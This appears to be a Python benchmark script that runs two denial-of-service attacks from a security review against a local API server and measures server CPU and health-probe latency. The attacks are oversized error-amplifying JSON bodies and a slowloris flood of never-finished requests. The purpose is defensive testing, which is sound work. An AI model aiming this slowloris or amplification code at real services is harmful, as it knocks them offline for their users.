"""Two attacks from the security review, measured against a real server on 127.0.0.1 only.

``amp``: 4 clients for 20 s POST a 58 KB body with 7,000 unknown fields (``{"type": "highlight",
"0": 0, ...}``) to ``/exercises/{id}/check`` while a probe asks ``GET /health`` every 0.5 s.
Reported: requests, bytes per answer, the server's CPU seconds per request (``/proc``) and the
probe's p50 and worst latency.

``slowloris``: N idle connections (1,100 by default) each send a request line and then one header
line every 5 s, never finishing; the server runs with a 1,024 file-descriptor limit, a common
desktop default (set on the server process with ``prlimit``). A probe on a fresh connection asks
``GET /health`` every 3 s. Reported: connections opened, closed by the server, and each probe's
status and latency (target: every probe answers within 1 s).

    .venv/bin/python bench/bench_attacks.py amp [--seconds 20] [--clients 4] [--fields 7000]
    .venv/bin/python bench/bench_attacks.py slowloris [--connections 1100] [--seconds 25] [--header-timeout S]

The server is ``python -m api`` as installed in the virtual environment, so running this on an
older checkout measures that checkout.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import resource
import sys
import tempfile
import time
from pathlib import Path

import httpx

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from tests.api.server import ServerProcess  # noqa: E402

TOKEN = "bench-teacher-token-0123456789abcdefghij"
HOST = "127.0.0.1"


def server_cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def percentile(values: list[float], share: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(share * len(ordered)))] if ordered else float("nan")


async def amplification(url: str, pid: int, seconds: float, clients: int, fields: int) -> dict[str, float]:
    body = json.dumps({"type": "highlight", **{f"{i:x}": 0 for i in range(fields)}}, separators=(",", ":")).encode()
    exercise = "frm-03"  # any exercise: validation of the body runs before the route looks at the id
    sent = {"requests": 0, "bytes": 0, "statuses": set()}
    probes: list[float] = []
    deadline = time.monotonic() + seconds

    async def attacker(http: httpx.AsyncClient) -> None:
        while time.monotonic() < deadline:
            answer = await http.post(f"/api/v1/exercises/{exercise}/check", content=body, headers={"content-type": "application/json"})
            sent["requests"] += 1
            sent["bytes"] += len(answer.content)
            sent["statuses"].add(answer.status_code)

    async def probe() -> None:
        async with httpx.AsyncClient(base_url=url, timeout=60) as http:
            while time.monotonic() < deadline:
                started = time.perf_counter()
                await http.get("/api/v1/health")
                probes.append(time.perf_counter() - started)
                await asyncio.sleep(0.5)

    cpu_before = server_cpu_seconds(pid)
    async with httpx.AsyncClient(base_url=url, timeout=60) as http:
        await asyncio.gather(*(attacker(http) for _ in range(clients)), probe())
    cpu = server_cpu_seconds(pid) - cpu_before
    n = max(1, sent["requests"])
    return {"body_bytes": len(body), "requests": sent["requests"], "statuses": sorted(sent["statuses"]),
            "response_bytes_each": sent["bytes"] // n, "response_MB_total": round(sent["bytes"] / 1e6, 1),
            "server_cpu_s": round(cpu, 2), "server_cpu_ms_per_request": round(1000 * cpu / n, 2),
            "health_p50_s": round(percentile(probes, 0.5), 3), "health_max_s": round(max(probes), 3)}


async def slowloris(port: int, connections: int, seconds: float) -> dict[str, object]:
    counts = {"opened": 0, "connect_failed": 0, "closed_by_server": 0}

    async def hold() -> None:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, port), 5)
        except (OSError, asyncio.TimeoutError):
            counts["connect_failed"] += 1
            return
        counts["opened"] += 1
        writer.write(b"GET /api/v1/health HTTP/1.1\r\nHost: x\r\n")
        end = time.monotonic() + seconds
        try:
            await writer.drain()
            while time.monotonic() < end:
                await asyncio.sleep(5)
                if reader.at_eof():
                    counts["closed_by_server"] += 1
                    break
                writer.write(b"X-a: b\r\n")
                await writer.drain()
        except OSError:
            counts["closed_by_server"] += 1
        finally:
            writer.close()

    async def probe() -> list[tuple[object, float]]:
        results: list[tuple[object, float]] = []
        async with httpx.AsyncClient(timeout=10) as http:
            for _ in range(int(seconds // 3)):
                await asyncio.sleep(3)
                started = time.perf_counter()
                try:
                    status: object = (await http.get(f"http://{HOST}:{port}/api/v1/health", headers={"Connection": "close"})).status_code
                except httpx.HTTPError as error:
                    status = type(error).__name__
                results.append((status, round(time.perf_counter() - started, 3)))
        return results

    holders = [asyncio.create_task(hold()) for _ in range(connections)]
    probes = await probe()
    await asyncio.gather(*holders)
    ok = [latency for status, latency in probes if status == 200]
    return {"connections": connections, **counts, "probes": len(probes), "probes_ok_within_1s": sum(1 for s in ok if s <= 1.0),
            "probe_max_s": max((latency for _, latency in probes), default=float("nan")), "probe_results": probes}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = parser.add_subparsers(dest="attack", required=True)
    amp = sub.add_parser("amp", help="error amplification: 7,000 unknown fields")
    amp.add_argument("--seconds", type=float, default=20.0)
    amp.add_argument("--clients", type=int, default=4)
    amp.add_argument("--fields", type=int, default=7000)
    loris = sub.add_parser("slowloris", help="idle connections that never finish their headers")
    loris.add_argument("--connections", type=int, default=1100)
    loris.add_argument("--seconds", type=float, default=25.0)
    loris.add_argument("--server-fd-limit", type=int, default=1024)
    loris.add_argument("--header-timeout", type=float, help="the server's MEDIALIT_HEADER_TIMEOUT_S (default: its default); "
                       "a long one shows the connection cap at work alone")
    args = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # the client holds the idle sockets
    with tempfile.TemporaryDirectory(prefix="medialit-attack-") as folder:
        url = f"sqlite:///{Path(folder) / 'bench.db'}"
        env = {"MEDIALIT_HEADER_TIMEOUT_S": str(args.header_timeout)} if getattr(args, "header_timeout", None) else {}
        with ServerProcess(url, [], TOKEN, Path(folder), extra_env=env) as server:
            if args.attack == "amp":
                result = asyncio.run(amplification(server.url, server.process.pid, args.seconds, args.clients, args.fields))
            else:
                limit = min(args.server_fd_limit, hard)
                resource.prlimit(server.process.pid, resource.RLIMIT_NOFILE, (limit, limit))
                result = asyncio.run(slowloris(server.port, args.connections, args.seconds))
                result["server_fd_limit"] = limit
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
